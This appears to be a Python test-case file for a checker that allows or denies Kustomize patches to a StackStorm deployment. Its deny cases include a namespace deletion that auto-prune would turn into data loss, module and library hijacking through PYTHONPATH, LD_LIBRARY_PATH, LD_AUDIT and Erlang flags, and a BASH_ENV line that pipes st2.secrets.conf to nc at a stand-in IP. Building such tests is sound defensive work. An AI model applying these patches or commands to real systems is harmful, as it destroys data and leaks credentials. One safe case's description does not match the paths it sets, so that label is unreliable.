from lib import *
import fam_envhook as E
# --- namespace dropped from staging's render: automated prune deletes it
PR = "deploy/argocd/applications/st2-staging.yaml syncs automatically with prune: true; Argo CD prunes tracked objects missing from the render (argocd.md §3.1: with auto-prune an empty render deletes everything); deleting a Namespace deletes every object and PVC in it"
case('nsprune-staging-inline', 'deny', 'data-loss', f"staging: Namespace st2-staging removed from the render with an inline $patch: delete; the next automated sync prunes the namespace, deleting MongoDB, RabbitMQ and etcd volumes ({PR})",
     env='staging', patches=[sm("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: st2-staging\n$patch: delete\n")])
case('nsprune-staging-file', 'deny', 'data-loss', f"staging: Namespace st2-staging removed by a patch file ($patch: delete); automated prune deletes the namespace and all its data ({PR})",
     env='staging', files={'drop-ns.yaml': "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: st2-staging\n$patch: delete\n"},
     raw_kust="apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../../staging\npatches:\n  - path: drop-ns.yaml\n")
case('nsprune-staging-psm', 'deny', 'data-loss', f"staging: Namespace removed through patchesStrategicMerge ($patch: delete); automated prune deletes it with every PVC ({PR})",
     env='staging', files={'drop-ns.yaml': "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: st2-staging\n$patch: delete\n"},
     raw_kust="apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../../staging\npatchesStrategicMerge:\n  - drop-ns.yaml\n")
case('nsprune-safe-drop-sample-mapping', 'allow', 'safe', "removes only the sample LDAP mapping file from ConfigMap st2-rbac-mappings: fewer rights, nothing pruned that holds data",
     env='staging', patches=[jp({'kind': 'ConfigMap', 'name': 'st2-rbac-mappings'}, [{'op': 'remove', 'path': '/data/sample.yaml'}])])
case('nsprune-safe-ns-label', 'allow', 'safe', "adds a team label to Namespace st2-staging: the namespace stays in the render, nothing is pruned",
     env='staging', patches=[jp({'kind': 'Namespace', 'name': 'st2-staging'}, [{'op': 'add', 'path': '/metadata/labels/team', 'value': 'platform'}])])
# --- PYTHONPATH in the hook Jobs and more services
for job in ['st2-register-content', 'st2-apply-rbac-definitions']:
    case(f'pyshadow-six-job-{job}', 'deny', 'exfiltration',
         f"hook Job {job} runs with PYTHONPATH on a ConfigMap dir whose six.py POSTs st2.secrets.conf outside before loading the real six ({E.PYPATH})",
         resources={'cm.yaml': cm('r15-pyhooks', {'six.py': E.exfil_py('six')})},
         patches=[dep_cm_mount(job, job, 'r15-pyhooks', '/opt/pyhooks', env=[('PYTHONPATH', '/opt/pyhooks')], kind='Job', group='batch/v1')])
for mod, dep, how in [('six','st2stream','post'), ('six','st2garbagecollector','log'), ('yaml','st2scheduler','key'), ('kombu','st2workflowengine','sock')]:
    case(f'pyshadow-{mod}-{dep}-{how}', 'deny', 'exfiltration',
         f"PYTHONPATH puts a ConfigMap dir first in {dep}; its {mod}.py {E.HOWTXT[how]}, then loads the real {mod} ({E.PYPATH})",
         resources={'cm.yaml': cm('r15-pyhooks', {f'{mod}.py': E.exfil_py(mod, how)})},
         patches=[dep_cm_mount(dep, dep, 'r15-pyhooks', '/opt/pyhooks', env=[('PYTHONPATH', '/opt/pyhooks')])])
case('pyshadow-safe-unbuffered', 'allow', 'safe', "PYTHONUNBUFFERED=1 and PYTHONDONTWRITEBYTECODE=1 on st2api: common container settings that load no code",
     patches=[dep_env('st2api', 'st2api', [('PYTHONUNBUFFERED', '1'), ('PYTHONDONTWRITEBYTECODE', '1')])])
case('pyshadow-safe-pythonpath-packs', 'allow', 'safe', "PYTHONPATH=/opt/stackstorm/packs/core/actions/lib on st2client: a directory of the image's own core pack, no code from a volume written by git",
     patches=[dep_env('st2client', 'st2client', [('PYTHONPATH', '/opt/stackstorm/st2/lib/python3.8/site-packages:/usr/lib/python3/dist-packages')])])
# --- loader hooks on stores and st2web
ELF = E.ELF
for dep, kind, cont, lib in [('mongodb', 'StatefulSet', 'mongodb', 'libcrypto.so.1.1'), ('rabbitmq', 'StatefulSet', 'rabbitmq', 'libcrypto.so.3'), ('st2web', 'Deployment', 'st2web', 'libpcre.so.3')]:
    case(f'ldpath-{dep}', 'deny', 'supply-chain',
         f"LD_LIBRARY_PATH puts a ConfigMap's binaryData {lib} ahead of the image's in {dep}: machine code from git loaded into the process holding its data or st2's logins ({E.LD})",
         resources={'cm.yaml': cm('r15-libs', {}, binary={lib: ELF})},
         patches=[dep_cm_mount(dep, cont, 'r15-libs', '/opt/r15lib', env=[('LD_LIBRARY_PATH', '/opt/r15lib')], kind=kind)])
    case(f'ldaudit-{dep}', 'deny', 'supply-chain',
         f"LD_AUDIT loads a library from a ConfigMap's binaryData into {dep} before main ({E.LD})",
         resources={'cm.yaml': cm('r15-libs', {}, binary={'audit.so': ELF})},
         patches=[dep_cm_mount(dep, cont, 'r15-libs', '/opt/r15lib', env=[('LD_AUDIT', '/opt/r15lib/audit.so')], kind=kind)])
case('ldpath-staging-st2api', 'deny', 'supply-chain', f"staging: LD_LIBRARY_PATH to a ConfigMap's binaryData libz.so.1 in st2api ({E.LD})",
     env='staging', resources={'cm.yaml': cm('r15-libs', {}, binary={'libz.so.1': ELF}, ns='st2-staging')},
     patches=[dep_cm_mount('st2api', 'st2api', 'r15-libs', '/opt/r15lib', env=[('LD_LIBRARY_PATH', '/opt/r15lib')])])
case('ldpath-safe-st2-lib', 'allow', 'safe', "LD_LIBRARY_PATH=/opt/stackstorm/st2/lib on st2actionrunner: a directory of the image itself",
     patches=[dep_env('st2actionrunner', 'st2actionrunner', [('LD_LIBRARY_PATH', '/opt/stackstorm/st2/lib')])])
case('ldpath-safe-mongodb-image-dir', 'allow', 'safe', "LD_LIBRARY_PATH=/usr/lib/x86_64-linux-gnu on mongodb: the image's own library directory",
     patches=[sm("apiVersion: apps/v1\nkind: StatefulSet\nmetadata:\n  name: mongodb\nspec:\n  template:\n    spec:\n      containers:\n        - name: mongodb\n          env:\n            - name: LD_LIBRARY_PATH\n              value: /usr/lib/x86_64-linux-gnu\n")])
# RabbitMQ erlang code path
case('erlhook-rabbitmq-pa-s', 'deny', 'supply-chain',
     "RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS adds '-pa /opt/r15erl -s r15hook' with a ConfigMap-delivered .beam: RabbitMQ's VM loads and starts code from git beside every st2 message and the cluster's Erlang cookie (RabbitMQ docs: RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS passed to erl; erl docs: -pa adds code path, -s runs Mod:start())",
     resources={'cm.yaml': cm('r15-erl', {}, binary={'r15hook.beam': 'Rk9SMQAAAAxCRUFNQXRVOA=='})},
     patches=[dep_cm_mount('rabbitmq', 'rabbitmq', 'r15-erl', '/opt/r15erl', env=[('RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS', '-pa /opt/r15erl -s r15hook')], kind='StatefulSet')])
# --- BASH_ENV extra
case('bashenv-st2client-valuefrom', 'deny', 'exfiltration', f"BASH_ENV from valueFrom.configMapKeyRef; the sourced script POSTs stanley's SSH key outside ({E.BASH})",
     resources={'cm.yaml': cm('r15-bashenv', {'env.sh': E.shs[5][1], 'p': '/opt/bashenv/env.sh'})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv'),
              sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2client\nspec:\n  template:\n    spec:\n      containers:\n        - name: st2client\n          env:\n            - name: BASH_ENV\n              valueFrom:\n                configMapKeyRef:\n                  name: r15-bashenv\n                  key: p\n")])
case('bashenv-st2client-nc', 'deny', 'exfiltration', f"BASH_ENV script pipes st2.secrets.conf to nc 198.51.100.23 443 ({E.BASH})",
     resources={'cm.yaml': cm('r15-bashenv', {'env.sh': "nc -w 3 198.51.100.23 443 < /etc/st2/st2.secrets.conf || true\n"})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv', env=[('BASH_ENV', '/opt/bashenv/env.sh')])])
case('bashenv-safe-motd', 'allow', 'safe', "BASH_ENV script that echoes a message of the day and the st2 CLI version into the log: no secret read, nothing sent",
     resources={'cm.yaml': cm('r15-bashenv', {'env.sh': "echo 'st2client: use st2 login before running commands'\nst2 --version || true\n"})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv', env=[('BASH_ENV', '/opt/bashenv/env.sh')])])
